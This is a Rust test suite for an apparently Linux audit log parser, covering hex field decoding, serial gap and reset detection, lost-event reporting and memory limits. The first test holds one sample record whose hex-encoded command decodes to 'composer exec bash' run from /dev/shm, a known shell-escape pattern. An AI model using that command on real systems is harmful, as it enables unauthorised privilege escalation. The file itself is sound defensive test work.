    let out = a.push(b"type=USER_CMD msg=audit(1597270864.489:242): pid=2867 uid=1001 auid=1002 ses=12 msg='cwd=\"/dev/shm\" cmd=2F7573722F62696E2F636F6D706F73657220657865632062617368 terminal=pts/0 res=success'");
    let f = events(&out)[0].fields();
    assert_eq!(
        field(&f, "USER_CMD.cmd"),
        Some("2F7573722F62696E2F636F6D706F73657220657865632062617368")
    );
    assert_eq!(
        field(&f, "USER_CMD.cmd.decoded"),
        Some("/usr/bin/composer exec bash")
    );
}

#[test]
fn lines_that_are_not_records_come_back_unparsed() {
    let mut a = EventAssembler::default();
    let out = a.push(b"this is not an audit record");
    assert_eq!(
        out,
        [Assembled::Unparsed(UnparsedLine {
            line: b"this is not an audit record".to_vec(),
            error: RecordError::MissingType
        })]
    );
    let out = a.push(b"type=SYSCALL msg=audit(1700000000.12");
    assert!(matches!(
        &out[..],
        [Assembled::Unparsed(UnparsedLine {
            error: RecordError::Truncated,
            ..
        })]
    ));
    // A user message that is not UTF-8 (the kernel copies it as sent): its
    // serial still counts, so no false gap appears.
    push_all(
        &mut a,
        &["type=USER_END msg=audit(1700000000.000:10): pid=1 msg='res=success'"],
    );
    let out = a.push(b"type=USER_CMD msg=audit(1700000000.001:11): pid=1 msg='cmd=\xff'");
    assert!(matches!(
        &out[..],
        [Assembled::Unparsed(UnparsedLine {
            error: RecordError::NotUtf8 { .. },
            ..
        })]
    ));
    push_all(
        &mut a,
        &["type=USER_END msg=audit(1700000000.002:12): pid=1 msg='res=success'"],
    );
    assert!(losses(&a.finish()).is_empty());
}

#[test]
fn serial_gap_then_reboot_is_a_gap_and_a_reset() {
    // Synthetic records in the kernel's and auditd's formats.
    let mut a = EventAssembler::default();
    let mut out = push_all(
        &mut a,
        &[
            "type=USER_START msg=audit(1700000000.000:118): pid=1 msg='res=success'",
            "type=USER_END msg=audit(1700000001.000:119): pid=1 msg='res=success'",
            "type=DAEMON_END msg=audit(1700000002.000:5121): op=terminate auid=0 pid=1 subj= res=success",
            "type=DAEMON_START msg=audit(1700000100.000:733): op=start ver=4.0.3 format=raw kernel=6.12.0 auid=4294967295 pid=612 uid=0 ses=4294967295 res=success",
            "type=KERNEL msg=audit(1700000090.000:1): state=initialized audit_enabled=1 res=1",
            "type=USER_START msg=audit(1700000101.000:2): pid=1 msg='res=success'",
            "type=USER_START msg=audit(1700000101.000:9): pid=1 msg='res=success'",
        ],
    );
    out.extend(a.finish());
    assert_eq!(
        losses(&out),
        [
            &LossReport::SerialReset {
                node: None,
                previous: 119,
                serial: 1
            },
            &LossReport::Gap(Gap {
                node: None,
                after_serial: 2,
                before_serial: 9,
                missing: 6
            }),
        ]
    );
    assert_eq!(
        losses(&out)[1].to_string(),
        "6 audit event(s) missing between serial 2 and serial 9"
    );
}

#[test]
fn a_reset_of_the_kernel_lost_counter_is_reported() {
    // Synthetic, in the form of the kernel's audit_log_config_change("lost", 0, lost, 1).
    let mut a = EventAssembler::default();
    let out = a.push(b"type=CONFIG_CHANGE msg=audit(1700000000.000:300): op=set lost=0 old=1742 auid=0 ses=3 subj=unconfined res=1");
    assert_eq!(
        losses(&out),
        [&LossReport::KernelLostCounter {
            node: None,
            serial: 300,
            lost: 1742
        }]
    );
    assert!(losses(&out)[0].is_loss());
    let out = a.push(
        b"type=CONFIG_CHANGE msg=audit(1700000000.000:301): op=set lost=0 old=0 auid=0 ses=3 res=1",
    );
    assert!(losses(&out).is_empty(), "nothing was lost");
}

#[test]
fn limits_force_events_out_and_bound_memory() {
    let config = AssemblerConfig {
        max_open_events: 3,
        max_records_per_event: 4,
        max_event_bytes: 10_000,
        max_buffered_bytes: 1_000,
        ..AssemblerConfig::default()
    };
    // A flood of distinct serials that never end.
    let mut a = EventAssembler::new(config.clone());
    let mut forced = 0;
    for serial in 0..100 {
        let line = format!(
            "type=SYSCALL msg=audit(1700000000.000:{serial}): arch=c000003e syscall=2 items=1"
        );
        for o in a.push(line.as_bytes()) {
            if let Assembled::Event(e) = o {
                assert_eq!(e.completion(), Completion::Forced(ForcedBy::OpenEvents));
                forced += 1;
            }
        }
        assert!(a.open_events() <= 3);
    }
    assert_eq!(forced, 97);
    // One event with too many records: later ones continue it.
    let mut a = EventAssembler::new(config.clone());
    let mut out = Vec::new();
    for _ in 0..6 {
        out.extend(a.push(b"type=PATH msg=audit(1700000000.000:7): item=0 name=\"/x\""));
    }
    out.extend(a.finish());
    let done = events(&out);
    assert_eq!(
        done.iter().map(|e| e.record_count()).collect::<Vec<_>>(),
        [4, 2]
    );
    assert_eq!(done[0].completion(), Completion::Forced(ForcedBy::Records));
    assert!(done[1].continues_earlier());
    // Too many bytes held.
    let mut a = EventAssembler::new(config);
    let long = format!(
        "type=PATH msg=audit(1700000000.000:8): name=\"{}\"",
        "a".repeat(600)
    );
    a.push(long.as_bytes());
    let out = a.push(long.replace(":8)", ":9)").as_bytes());
    assert_eq!(
        events(&out)[0].completion(),
        Completion::Forced(ForcedBy::BufferedBytes)
    );
    assert!(a.buffered_bytes() <= 1_000);
}

#[test]
fn too_many_fields_are_counted_not_kept() {
    let mut a = EventAssembler::default();
    let fields: String = (0..5_000).map(|i| format!(" k{i}=v")).collect();
    let out = a.push(format!("type=USER_CMD msg=audit(1.000:1):{fields}").as_bytes());
    let f = events(&out)[0].fields();
    assert_eq!(f.len(), MAX_FIELDS_PER_EVENT);
    assert_eq!(
        f.last().map(|(k, _)| k.as_str()),
        Some("audit_fields_omitted")
    );
    let long_key = "k".repeat(300);
    let out = a.push(format!("type=USER_CMD msg=audit(1.000:2): {long_key}=v ok=1").as_bytes());
    let f = events(&out)[0].fields();
    assert_eq!(field(&f, "USER_CMD.ok"), Some("1"));
    assert_eq!(field(&f, "audit_fields_omitted"), Some("1"));
}

/// Lines that look like records (few nodes, times, serials, types, and
/// tokens that exercise quotes, hex, msg='…' and the 0x1D separator), and
/// arbitrary bytes.
fn line_strategy() -> impl Strategy<Value = Vec<u8>> {
    let record = (
        prop::option::of(prop::sample::select(vec!["a", "b"])),
        prop::sample::select(vec![
            "SYSCALL",
            "PATH",
            "CWD",
            "EXECVE",
            "PROCTITLE",
            "EOE",
            "USER_LOGIN",
            "DAEMON_START",
            "CONFIG_CHANGE",
            "UNKNOWN[1420]",
            "AVC",
            "LOGIN",
        ]),
        0u64..6,
        0u16..3,
        prop_oneof![0u32..40, (u32::MAX - 3)..=u32::MAX],
        prop::collection::vec(
            prop::sample::select(vec![
                " a0=1",
                " name=\"/x y\"",
                " proctitle=2F62696E00",
                " msg='op=x acct=\"r\" res=ok'",
                " key=(null)",
                "\x1dAUID=\"u\"",
                " op=set lost=0 old=3",
                " a1[0]=6869",
                " SADDR={ f=1 }",
                " x=\"",
                " 'q",
                " =",
                " é",
                " data=0D0A1B",
            ]),
            0..6,
        ),
    )
        .prop_map(|(node, kind, second, milli, serial, tokens)| {
            let node = node.map(|n| format!("node={n} ")).unwrap_or_default();
            let mut line = format!(
                "{node}type={kind} msg=audit({}.{milli:03}:{serial}):",
                1_700_000_000 + second * 3
            );
            line.extend(tokens);
            line.into_bytes()
        });
    prop_oneof![
        8 => record,
        1 => prop::collection::vec(any::<u8>(), 0..60),
    ]
}

fn check_fields(event: &CompletedEvent) {
    let fields = event.fields();
    assert!(fields.len() <= MAX_FIELDS_PER_EVENT);
    assert!(
        fields
            .iter()
            .all(|(k, _)| !k.is_empty() && k.len() <= MAX_FIELD_NAME_LEN)
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn parse_never_panics_and_fields_stay_inside_the_line(line in prop::collection::vec(any::<u8>(), 0..200)) {
        if let Ok(record) = parse_record(&line) {
            let text = record.line();
            for field in record.fields().chain(record.enriched_fields()) {
                prop_assert!(text.contains(field.key()) && text.contains(field.value()));
                let _ = field.decoded_value();
            }
        }
    }

    #[test]
    fn every_line_comes_out_once_and_memory_stays_bounded(
        lines in prop::collection::vec(line_strategy(), 0..80),
        flushes in prop::collection::vec(any::<bool>(), 80),
    ) {
        let config = AssemblerConfig {
            idle_timeout_ms: 2_000,
            max_open_events: 4,
            max_records_per_event: 5,
            max_event_bytes: 400,
            max_buffered_bytes: 600,
            remembered_events: 8,
            serials: SerialTrackerConfig { reorder_window: 4, max_nodes: 1, remembered_gaps: 2 },
        };
        let mut a = EventAssembler::new(config);
        let mut out = Vec::new();
        for (line, flush) in lines.iter().zip(flushes) {
            out.extend(a.push(line));
            prop_assert!(a.open_events() <= 4);
            prop_assert!(a.buffered_bytes() <= 600);
            if flush {
                out.extend(a.flush(Flush::Idle));
            }
        }
        out.extend(a.finish());
        let mut seen: Vec<Vec<u8>> = Vec::new();
        for o in &out {
            match o {
                Assembled::Event(e) => {
                    prop_assert!(e.record_count() >= 1 && e.record_count() <= 5);
                    prop_assert_eq!(e.body().to_vec(), e.lines().collect::<Vec<_>>().join(&b'\n'));
                    check_fields(e);
                    seen.extend(e.lines().map(<[u8]>::to_vec));
                }
                Assembled::Unparsed(u) => seen.push(u.line.clone()),
                Assembled::Loss(l) => { let _ = (l.to_string(), l.fields()); }
            }
        }
        let mut want = lines.clone();
        want.sort();
        seen.sort();
        prop_assert_eq!(seen, want);
    }
}
